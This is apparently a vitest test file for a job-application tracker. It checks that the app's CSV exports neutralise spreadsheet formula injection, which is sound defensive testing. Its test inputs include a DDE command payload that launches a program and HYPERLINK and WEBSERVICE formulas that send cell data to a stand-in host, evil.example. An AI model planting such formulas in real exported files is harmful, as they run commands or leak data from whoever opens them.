import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { text } from 'node:stream/consumers';
import type { Insights } from '@firsthand/contracts';
import { describe, expect, test } from 'vitest';
import { writeInsights } from '../features/insights/write-insights.ts';
import { writeTable, type TableRow } from '../features/job-applications/history/write-table.ts';

const SOURCES = fileURLToPath(new URL('../', import.meta.url));
/** Where a spreadsheet begins a formula: at the start of a cell, by whatever it takes for the separator. */
const FORMULA = /^[\s"\ufeff]*[=+\-@＝＋－＠]/;

function toTable(words: string): Promise<string> {
  const row: TableRow = {
    ...{ id: 1, title: words, company: words, client_name: words, location: words, external_url: words },
    ...{ applied_at: new Date('2026-02-01T09:00:30.000Z'), applied_at_text: '', ats_source: 'lever' },
    ...{ application_status: 'completed', way: 'snail', stage: 'applied', follow_up_on: null, notes: words },
    stages: [],
  };
  return text(writeTable([row, { ...row, company: null }]));
}

function toFigures(words: string): string {
  const values = [{ value: words, label: words, count: 1 }];
  const pay = [{ currency: words, count: 1, p25: 1, p50: 2, p75: 3 }];
  const weeks = [{ week: '2026-02-02', opened: 1, closed: 0, open: 1 }];
  const lists = { work_modes: values, top_companies: values, top_places: values, top_skills: values };
  const totals = { about: 1, all: 1 };
  return writeInsights({ total: 1, totals, pay, weeks, ...lists } as unknown as Insights);
}

/** The cells as a spreadsheet has them that parts by this separator; by other ones than the comma it heeds no quotes. */
function readCells(table: string, separator: string): string[] {
  const body = table.replace('\ufeff', '');
  if (separator !== ',') return body.split('\n').flatMap((line) => line.split(separator));
  return [...body.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell = '']) => cell.replaceAll('""', '"'));
}

describe.each([
  ['applications', toTable],
  ['figures', toFigures],
])('the table of %s', (_what, write) => {
  test.each([
    ...[
      '=1+1',
      '+1',
      '-1',
      '@SUM(A1)',
      '＝1',
      '＋1',
      '－1',
      '＠SUM(1)',
      ' =1',
      '\u00a0=1',
      '\ufeff=1',
      '\t=1',
      '\r=1',
    ],
    ...[
      '\n=1',
      '"=1',
      '""=1',
      'a;=1',
      'a; =1',
      'a\t=1',
      'a\n=1',
      'a\r\n=1',
      'a";"=1',
      'a","=1',
      "=cmd|' /C calc'!A0",
    ],
    ...[
      '=HYPERLINK("https://evil.example/?"&A1,"x")',
      '=WEBSERVICE("https://evil.example")',
      '@import',
      '-2+3+cmd',
    ],
  ])('runs nothing of %j', async (words) => {
    const table = await write(words);
    for (const separator of [',', ';', '\t']) {
      expect(readCells(table, separator).filter((cell) => FORMULA.test(cell))).toEqual([]);
    }
    expect(readCells(table, ',').length).toBeGreaterThan(20);
  });
});

test('no other file writes such a table', () => {
  const writers = readdirSync(SOURCES, { recursive: true, encoding: 'utf8' })
    .filter((path) => path.endsWith('.ts') && !/\.test\.ts$|^testing\//.test(path))
    .filter((path) => /text\/csv|toCsvLine/.test(readFileSync(join(SOURCES, path), 'utf8')));
  expect(writers.toSorted()).toEqual([
    'features/insights/insights.routes.ts',
    'features/insights/write-insights.ts',
    'features/job-applications/history/history.calls.ts',
    'features/job-applications/history/write-table.ts',
    'features/users/personal-csv.ts',
    'http/csv.ts',
  ]);
});
